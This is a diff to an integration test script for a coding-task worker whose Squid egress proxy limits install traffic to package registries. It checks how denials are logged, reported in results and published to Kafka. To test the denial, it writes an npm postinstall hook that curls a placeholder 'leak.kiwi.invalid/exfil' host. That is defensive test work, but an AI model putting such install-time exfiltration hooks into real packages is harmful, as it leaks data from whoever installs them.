@@ -5,7 +5,9 @@
 # reported in the heartbeat (`egress_proxy`, with what it carried); the
 # egress check's Phase A probe reaches the registry through it and a host
 # off the list is refused by it (`install_denied_host`); killed, it is
-# started again and the heartbeat counts the restart; the worker stopped,
+# started again and the heartbeat counts the restart; a task's install
+# denied a host is told by an `egress_denied` event, its install event's
+# host list and its result's reason; the worker stopped,
 # or killed with SIGKILL, no Squid is left.
 #
 # The test adds no iptables rule (the enforcement, egress.sh --proxy, is
@@ -23,7 +25,7 @@ P1=$(( 20000 + $$ % 5000 * 3 )); PORTS="$P1,$((P1 + 1)),$((P1 + 2))"
 chmod 755 "$TMP"
 STATE="$TMP/state"
 mkdir -p "$STATE"
-worker_start a KIWI_SLOTS=1 KIWI_EGRESS_INTERVAL=10 KIWI_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt \
+worker_start a KIWI_SLOTS=1 KIWI_EGRESS_INTERVAL=10 KIWI_EGRESS_STOP_WHEN_DEGRADED=false KIWI_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt \
   KIWI_STATE_DIR="$STATE" KIWI_INSTALL_EGRESS="registries" KIWI_INSTALL_PROXY_PORTS="$PORTS"
 
 hb_field() { hb_of a "$1"; }
@@ -56,7 +58,83 @@ grep -q 'egress proxy: denied denied.kiwi.invalid:443' "$TMP/worker-a.log" || fa
 [ "$(hb_field 'checks["install_dns_closed"]["ok"]')" = False ] || fail "install_dns_closed passes without the rules"
 log "phase A probe through the proxy; denial logged: $(grep -m1 'egress proxy: denied' "$TMP/worker-a.log")"
 
-# 3. killed, it comes back, and the heartbeat counts it
+# 3. a task whose install contacts a host off the list: npm fetches its
+# dependency from the registry through the proxy, then the repository's
+# postinstall asks for leak.kiwi.invalid (through HTTPS_PROXY, as every
+# well-behaved tool does; a tool that ignores it is caught by the redirect,
+# test_egress_proxy's). The denial is a typed progress event of that task,
+# published while Phase A still runs (before its install event); the
+# install event lists the registry with its requests and bytes and the
+# denial; the result's reason names the host and the setting that allows it.
+src="$TMP/leaky"
+cp -a "$ROOT/tests/fixtures/examples/js-tiny-dep" "$src"
+python3 - "$src/package.json" "$RUN_ID" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+d["description"] = "postinstall contacting a host off the list " + sys.argv[2]
+d["scripts"]["postinstall"] = "curl -sS --max-time 20 -o /dev/null https://leak.kiwi.invalid/exfil"
+json.dump(d, open(sys.argv[1], "w"), indent=2)
+PY
+commit_dir "$src" "leaky postinstall"
+tid=$(kiwi_cli submit --repo "$src" --ref main --test "npm test" --goal "Make the tests pass." --provider anthropic \
+  --model claude-sonnet-4-5-20250929 --base-url "http://127.0.0.1:9/")
+log "submitted $tid"
+set +e
+kiwi_cli wait "$tid" --timeout 120 >"$TMP/leaky-result.json"
+set -e
+kiwi_cli tail progress --task "$tid" >"$TMP/leaky-progress.jsonl" 2>/dev/null || true
+python3 - "$TMP/leaky-result.json" "$TMP/leaky-progress.jsonl" <<'PY' || fail "the denied install: $(cat "$TMP/leaky-result.json"; tail -n 20 "$TMP/worker-a.log")"
+import json, sys
+r = json.load(open(sys.argv[1]))
+r = r.get("result", r)
+evs = [json.loads(l) for l in open(sys.argv[2]) if l.strip()]
+evs = [e.get("event", e) for e in evs]
+assert r["status"] == "install_failed", r
+assert "the egress proxy denied leak.kiwi.invalid:443" in r["reason"], r["reason"]
+assert "KIWI_INSTALL_EGRESS=registries,leak.kiwi.invalid allows it" in r["reason"], r["reason"]
+den = [e for e in evs if e["kind"] == "egress_denied"]
+assert den, [(e["phase"], e["kind"]) for e in evs]
+d = den[0]
+p = d["payload"]
+assert d["phase"] == "install", d
+for k, v in (("host", "leak.kiwi.invalid"), ("port", 443), ("protocol", "connect"), ("via", "proxy"),
+             ("rule", "host not allowed"), ("allow_with", "KIWI_INSTALL_EGRESS=registries,leak.kiwi.invalid")):
+    assert p.get(k) == v, (k, p)
+assert p["command"].startswith("npm ci"), p
+inst = [e for e in evs if e["kind"] == "install" and not e["payload"].get("cached")]
+assert inst, [(e["phase"], e["kind"]) for e in evs]
+i = inst[0]
+# published as the attempt was read, not gathered at the end
+assert d["seq"] < i["seq"], (d["seq"], i["seq"])
+eg = i["payload"]["egress"]
+reg = eg["hosts"].get("registry.npmjs.org")
+assert reg and reg["requests"] >= 1 and reg["bytes"] > 0, eg
+assert eg["denials"] >= 1 and eg["denied"][0]["host"] == "leak.kiwi.invalid", eg
+assert "leak.kiwi.invalid" in i["payload"]["reason"], i["payload"]
+print("egress_denied %d ms after the attempt (seq %d; install event seq %d): %s" % (
+    d["ts"] - p["attempted_at"], d["seq"], i["seq"], json.dumps(p, sort_keys=True)))
+print("install egress: %s" % json.dumps(eg["hosts"], sort_keys=True))
+PY
+# the raw messages with kcat (framed as key, size, payload): one keyed by
+# the task whose msgpack says kind egress_denied and names the host
+kcat -C -b "$KIWI_KAFKA_BROKERS" -t "kiwi.itest.$RUN_ID.progress" -e -q -f '%k\t%S\t%s' \
+  >"$TMP/progress-raw.bin" 2>>"$TMP/kcat.log" || true
+python3 - "$TMP/progress-raw.bin" "$tid" <<'PY' || fail "no egress_denied message keyed by $tid on the progress topic (kcat)"
+import sys
+raw, tid, i, n = open(sys.argv[1], "rb").read(), sys.argv[2], 0, 0
+while i < len(raw):
+    t1 = raw.index(b"\t", i)
+    t2 = raw.index(b"\t", t1 + 1)
+    key, size = raw[i:t1].decode(), int(raw[t1 + 1:t2])
+    payload = raw[t2 + 1:t2 + 1 + max(size, 0)]
+    i = t2 + 1 + max(size, 0)
+    if key == tid and b"\xa4kind\xadegress_denied" in payload and b"leak.kiwi.invalid" in payload:
+        n += 1
+print("kcat: %d egress_denied message(s) keyed by %s" % (n, tid))
+sys.exit(0 if n else 1)
+PY
+
+# 4. killed, it comes back, and the heartbeat counts it
 kill -9 "$squid_pid"
 wait_for 30 'checks["egress_proxy"]["ok"] and __import__("re").search(r"[1-9][0-9]* restart", checks["egress_proxy"]["detail"]) is not None' ||
   fail "squid was not restarted: $(hb_field 'checks["egress_proxy"]')"
@@ -65,7 +143,7 @@ new_pid=$(hb_field 'checks["egress_proxy"]["detail"].split()[2]')
 grep -q 'egress proxy: squid (pid '"$squid_pid"') killed by signal 9' "$TMP/worker-a.log" || fail "the worker did not log the death"
 log "restarted: pid $squid_pid -> $new_pid"
 
-# 4. the worker stopped: no squid left
+# 5. the worker stopped: no squid left
 kill "$WORKER_PID_a"
 for _ in $(seq 1 120); do kill -0 "$WORKER_PID_a" 2>/dev/null || break; sleep 0.25; done
 kill -0 "$WORKER_PID_a" 2>/dev/null && fail "the worker still runs 30 s after SIGTERM"
@@ -73,7 +151,7 @@ for _ in $(seq 1 20); do kill -0 "$new_pid" 2>/dev/null || break; sleep 0.25; do
 kill -0 "$new_pid" 2>/dev/null && fail "squid $new_pid outlived the worker"
 ss -ltn | grep -q "$gw:$P1 " && fail "something still listens on $gw:$P1"
 
-# 5. the worker killed with SIGKILL (no chance to stop it): its Squid dies
+# 6. the worker killed with SIGKILL (no chance to stop it): its Squid dies
 # with it, and a worker started after it has the ports
 worker_start b KIWI_SLOTS=1 KIWI_EGRESS_INTERVAL=10 KIWI_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt \
   KIWI_STATE_DIR="$STATE" KIWI_INSTALL_EGRESS="registries" KIWI_INSTALL_PROXY_PORTS="$PORTS"
